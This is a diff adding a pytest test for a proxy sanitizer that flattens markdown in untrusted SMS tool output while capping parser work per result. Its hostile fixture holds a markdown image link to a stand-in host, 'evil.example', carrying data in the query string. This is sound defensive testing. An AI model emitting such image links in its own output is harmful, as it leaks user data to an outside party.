@@ -394,3 +394,22 @@ def test_one_hostile_value_costs_a_call_per_value_of_its_slice_only() -> None:
     out = sanitize_json(value, None, clean, all_unchanged)
     assert out[200] == "hi" and out[:200] == value[:200] and out[201:] == value[201:]
     assert cleaned == value[128:256]  # the values asked about together with it, and no others
+
+
+def test_one_result_shares_one_markdown_parser_budget(monkeypatch: pytest.MonkeyPatch) -> None:
+    from proxy import sanitize
+    from proxy.policy import OutputPolicy
+    from proxy.untrusted import OutputShield
+
+    parsed: list[int] = []
+    real = sanitize._MD.parse
+    monkeypatch.setattr(sanitize._MD, "parse", lambda src, env=None: parsed.append(len(src)) or real(src, env))
+    hostile = "**{i}** ![x](https://evil.example/?d={i}) [a](https://a.b/{i})"
+    messages = [{"id": str(i), "message": hostile.format(i=i)} for i in range(400)]
+    shield = OutputShield(OutputPolicy())
+    out = json.loads(shield.text(json.dumps({"list": messages}), "smsapi:get_sms", ["list[].message"]).split("\n")[3])
+    assert 0 < sum(parsed) <= sanitize.ParserBudget().chars  # 400 fields, one budget
+    assert out["list"][399]["message"] == "399  a (https://a.b/399)"  # flattened all the same
+    parsed.clear()
+    shield.text(json.dumps({"list": messages[:3]}), "smsapi:get_sms", ["list[].message"])
+    assert len(parsed) > 0  # the next result has a budget of its own
